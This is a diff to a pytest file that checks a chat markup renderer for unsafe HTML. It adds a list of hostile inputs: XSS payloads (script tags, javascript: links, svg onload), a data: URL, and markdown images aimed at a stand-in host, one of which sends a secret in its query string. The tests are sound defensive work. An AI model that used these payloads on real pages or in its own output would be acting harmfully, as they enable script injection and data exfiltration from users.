@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
-from chat.markup import inert_markdown, inert_stream, plain
+import re
+
+import pytest
+
+from chat.markup import inert_markdown, inert_stream, message_html, plain
 
 
 def test_images_become_links_outside_code() -> None:
@@ -35,3 +39,41 @@ def test_plain_escapes_every_markdown_construct() -> None:
     shown = plain(title)
     for construct in ("![", "**", "[l]", "<i>"):
         assert construct not in shown
+
+
+HOSTILE = [
+    '<img src="https://evil.example/a.png">',
+    "<script>alert(1)</script>",
+    '<a href="javascript:alert(1)">x</a>',
+    "![x](https://evil.example/?d=secret)",
+    "![y][r]\n\n[r]: https://evil.example/r",
+    "[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)",
+    '<iframe src="https://evil.example"></iframe> <svg onload=alert(1)>',
+    "`<b>code</b>`\n\n```html\n<script>x</script>\n```",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("literal", [False, True])
+def test_message_html_loads_and_runs_nothing(text: str, literal: bool) -> None:
+    rendered = message_html(text, literal=literal).lower()
+    assert not re.search(r"<(img|script|iframe|svg|object|embed|style)\b", rendered)
+    assert not re.search(r"<[^>]*\son\w+=", rendered)  # no event handler on any tag
+    assert not re.search(r'href="(?!https?:|mailto:|#|/)', rendered)  # web and mail links only
+
+
+def test_message_html_keeps_markdown_and_line_breaks() -> None:
+    rendered = message_html("**bold** and [a](https://example.com)\nnext line", literal=False)
+    assert "<strong>bold</strong>" in rendered and "<br" in rendered
+    assert (
+        'href="https://example.com"' in rendered
+        and 'rel="nofollow noopener noreferrer"' in rendered
+    )
+    image = message_html("![alt](https://evil.example/i.png)", literal=False)
+    assert image.count("<a ") == 1 and ">alt</a>" in image and "<img" not in image
+
+
+def test_message_html_shows_a_persons_text_as_typed() -> None:
+    assert message_html("<b>hi</b> *x*\n  indented", literal=True) == (
+        "&lt;b&gt;hi&lt;/b&gt; *x*\n  indented"
+    )
